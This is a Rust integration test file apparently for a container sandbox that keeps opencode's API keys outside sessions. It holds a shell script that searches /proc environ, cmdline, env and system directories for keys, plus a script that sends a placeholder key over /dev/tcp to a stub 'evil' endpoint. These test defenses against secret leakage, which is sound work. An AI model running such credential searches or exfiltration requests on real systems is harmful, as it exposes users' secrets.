//! API keys that stay outside of sessions: the provider sees them, and nothing inside does.

use ocx_tests::{
    engine::{Engine, HostNetwork},
    on_each_engine,
    stub_model::{CLOSING, Options, StubModel, project_config},
};
use rustix::process::Signal;

use crate::session_setup::{END, Project, START, tool_result};

on_each_engine!(
    the_model_sees_the_key_and_nothing_inside_does,
    a_project_does_not_lead_a_key_elsewhere,
);

/// What all keys begin with.
const KEYS: &str = "hunter2-";
const KEY: &str = "hunter2-of-the-configuration";

/// Loopback like 127.0.0.1, and not what programs keep away from proxies.
const AT: &str = "127.0.0.2:0";

/// Looks for a key in each place of a container, and tells where it found one. It does not hold what it
/// looks for, which would be found in it.
const SEARCH: &str = r#"
    exec 2>/dev/null
    key=hunter; key=${key}2-
    for found in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do
        tr '\0' '\n' < $found | grep -qaF $key && echo "in $found"
    done
    env | grep -F $key
    grep -rlaF $key /ocx /etc /tmp /run /var /home /root /usr/local ~ "$PWD"
    cut -d' ' -f5 /proc/self/mountinfo | while read -r place; do
        test -f "$place" && grep -laF $key "$place"
    done
    echo "placeholders: $(env | grep -c ocx-outside-)"
    echo searched
"#;

fn model() -> StubModel {
    let options = Options {
        // The bridge is in ocx's own network, whatever the engine's is.
        network: HostNetwork::OfMachine,
        ..Options::default()
    };
    StubModel::listen(AT, options).expect("a free port")
}

/// A user who has keys in all places in which opencode looks for them.
fn project(engine: &Engine, model: &StubModel) -> Project {
    let mut project = Project::new(engine);
    let sandbox = &mut project.sandbox;
    let config = project_config(&model.base_url()).replace("\"none\"", &format!("\"{KEY}\""));
    assert!(config.contains(KEY));
    sandbox.write(sandbox.config().join("opencode/opencode.json"), config);
    sandbox.write(
        sandbox.data().join("opencode/auth.json"),
        format!(r#"{{"anthropic": {{"type": "api", "key": "{KEYS}of-a-login"}}}}"#),
    );
    for (name, value) in [
        ("GROQ_API_KEY", "of-a-variable"),
        ("OPENAI_API_KEY", "of-another"),
    ] {
        sandbox.set_env(name, &format!("{KEYS}{value}"));
    }
    sandbox.set_env("OCX_PROVIDERS", "all");
    project
}

fn the_model_sees_the_key_and_nothing_inside_does(engine: &Engine) {
    let model = model();
    let mut project = project(engine, &model);
    for network in ["filtered", "default"] {
        project.sandbox.set_env("OCX_NETWORK", network);
        project.sandbox.set_env("OCX_KEYS", "outside");
        let before = model.authorizations().len();
        project.sandbox.write("search.sh", SEARCH);
        let prompt = "run: bash search.sh";
        let output = project.opencode(&["run", prompt]).run().success();
        output.prints(CLOSING).done();
        let seen = model.authorizations().split_off(before);
        assert!(seen.len() >= 2, "{seen:?}");
        for authorization in seen {
            assert_eq!(authorization, format!("Bearer {KEY}"), "{network}");
        }
        let found = tool_result(&model);
        // The configuration that names the bridge, and the two variables.
        assert!(found.contains("placeholders: 3"), "{network}: {found}");
        assert!(found.contains("searched"), "{network}: {found}");
        let is_finding = |line: &&str| line.starts_with(['/', '.']) || line.contains("in /proc/");
        let findings: Vec<&str> = found.lines().filter(is_finding).collect();
        assert!(
            findings.is_empty() && !found.contains(KEYS),
            "{network}: {found}"
        );
        // What the engine tells of the container.
        let wait = ["exec", "--new", "bash", "-c", "echo ready; sleep 300"];
        let mut session = project.sandbox.ocx(wait).start();
        session.wait_for("ready", START);
        let inspected = project.container().to_string();
        assert!(inspected.contains("ocx-outside-"), "{network}");
        assert!(!inspected.contains(KEYS), "{network}: {inspected}");
        // One that would have them inside is not run beside it, since it shares its files.
        let beside = ["--set", "keys=inside", "exec", "--new", "true"];
        project
            .sandbox
            .ocx(beside)
            .run()
            .exits(75)
            .says("is running with its API keys outside")
            .done();
        session.signal(Signal::TERM);
        session.wait(END).exits(143).done();
    }
    // The search finds what is there.
    project.sandbox.set_env("OCX_KEYS", "inside");
    let output = project.sandbox.ocx(["exec", "--new", "bash", "search.sh"]);
    let output = output.run().success();
    for place in ["in /proc/", "GROQ_API_KEY=", "/auth.json", "/opencode.json"] {
        assert!(output.stdout().contains(place), "{place}: {output}");
    }
    project.assert_no_containers();
}

fn a_project_does_not_lead_a_key_elsewhere(engine: &Engine) {
    let (model, evil) = (model(), self::model());
    let mut project = project(engine, &model);
    project.sandbox.set_env("OCX_NETWORK", "filtered");
    let allow = format!(
        "[\"@models\", \"{}\"]",
        evil.base_url().split('/').nth(2).unwrap()
    );
    project.sandbox.set_env("OCX_NETWORK_ALLOW", &allow);
    // The very same provider at another address, which is allowed.
    project.use_model(&evil.base_url());
    project.opencode(&["run", "hello"]).run().success().done();
    assert!(evil.authorizations().is_empty());
    assert!(!model.authorizations().is_empty());
    // Nor does somebody who asks there by hand.
    let script = format!(
        r#"
        placeholder=$(printf %s "$OPENCODE_CONFIG_CONTENT" | grep -o 'ocx-outside-[0-9a-f]*-[0-9]*' | head -1)
        body='{{"messages": [], "stream": false}}'
        exec 3<>/dev/tcp/127.0.0.1/3128
        printf 'POST {}/chat/completions HTTP/1.1\r\nAuthorization: Bearer %s\r\nContent-Type: application/json\r\nContent-Length: %s\r\nConnection: close\r\n\r\n%s' "$placeholder" "${{#body}}" "$body" >&3
        head -1 <&3
        "#,
        evil.base_url()
    );
    let by_hand = ["exec", "--new", "bash", "-c", &script];
    let output = project.sandbox.ocx(by_hand).run().success();
    assert!(output.stdout().contains(" 200 "), "{output}");
    let seen = evil.authorizations();
    assert_eq!(seen.len(), 1, "{seen:?}");
    assert!(seen[0].starts_with("Bearer ocx-outside-"), "{seen:?}");
    project.assert_no_containers();
}
